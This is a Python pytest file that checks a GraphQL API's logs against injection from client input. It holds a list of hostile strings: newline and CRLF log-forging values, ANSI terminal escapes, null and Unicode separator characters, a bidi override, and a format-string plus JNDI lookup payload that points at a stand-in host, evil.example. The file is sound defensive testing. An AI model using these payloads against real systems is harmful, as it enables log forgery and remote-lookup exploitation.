"""Attack: text that a client sends ends lines of the log, or colours a terminal, or lies in it."""

import io
import logging
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
import strawberry
from starlette.requests import Request

from functions.observing import Observed
from functions.telemetry import Telemetry
from schema.http import graphql_app
from schema.limits import Schema
from tests.attacks.api import Api
from tests.coalition import OPERATOR, House, gid

pytestmark = pytest.mark.usefixtures("untouched")

FORGED = '{"message": "forged"}'
HOSTILE = [
    f"x\n{FORGED}",
    f"x\r\n{FORGED}",
    "x\x1b[31mred\x1b[2J",
    "x\x00y",
    f"x\u2028{FORGED}",
    f"x\x85{FORGED}",
    "x\u202ey",
    "%s%n{0}${jndi:ldap://evil.example}",
]


@strawberry.type
class Query:
    """A field that breaks."""

    @strawberry.field
    def broken(self) -> int:
        """Fail as nobody planned."""
        raise KeyError("a defect")


@pytest.fixture
def lines() -> Iterator[io.StringIO]:
    """What is logged, as a plain handler would write it."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("LINE %(message)s"))
    root = logging.getLogger()
    before = root.level
    root.addHandler(handler)
    root.setLevel(logging.INFO)
    yield stream
    root.removeHandler(handler)
    root.setLevel(before)


async def nobody(_request: Request) -> object:
    return None


@pytest.mark.parametrize("text", HOSTILE)
def test_operation_name_is_written_escaped(house: House, lines: io.StringIO, text: str) -> None:
    """The log tells which operation broke; a name that could break its line is no operation's."""
    api = Api(house)
    api._app = graphql_app(Schema(Query), nobody)
    named = api.post(None, query="query Named { broken }", operationName=text)
    unnamed = api.post(None, query="query Named { broken }", operationName="Named")
    assert "broken" not in (named.json().get("data") or {})
    assert unnamed.json()["errors"][0]["extensions"]["code"] == "INTERNAL"
    written = lines.getvalue()
    assert "in operation 'Named'" in written
    assert_clean(written, text)


@pytest.mark.parametrize("text", HOSTILE)
def test_ids_variables_and_headers_reach_no_line(
    house: House, lines: io.StringIO, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """Whatever is sent, in whatever place, the line of a request has none of it."""
    api = Api(house)
    api._app = Observed(api._app, Telemetry("api"))  # type: ignore[assignment]
    latin = text.encode("latin-1", "ignore").replace(b"\n", b"").replace(b"\r", b"")
    requests: list[dict[str, Any]] = [
        {
            "json": {
                "query": "query ($id: ID!) { wallet(id: $id) { id } }",
                "variables": {"id": text},
            }
        },
        {"json": {"query": '{ wallet(id: "' + orjson.dumps(text).decode()[1:-1] + '") { id } }'}},
        {"json": {"query": text}},
        {"json": {"query": "{ __typename }", "extensions": {text: text}}},
        {
            "json": {
                "query": "query ($id: ID!) { transaction(id: $id) { id } }",
                "variables": {"id": gid("Transaction", text)},
            }
        },
        {
            "json": {"query": "{ __typename }"},
            "headers": [(b"user-agent", latin), (b"idempotency-key", latin), (b"origin", latin)],
        },
    ]
    for each in requests:
        api.send(OPERATOR, **each)
    assert_clean(lines.getvalue() + capsys.readouterr().out, text)


def assert_clean(written: str, text: str) -> None:
    """Nothing of it but as an escaped text, and no control character but the ends of lines."""
    assert FORGED not in written
    assert text not in written
    assert "evil.example" not in written
    assert not [char for char in written if not char.isprintable() and char != "\n"]
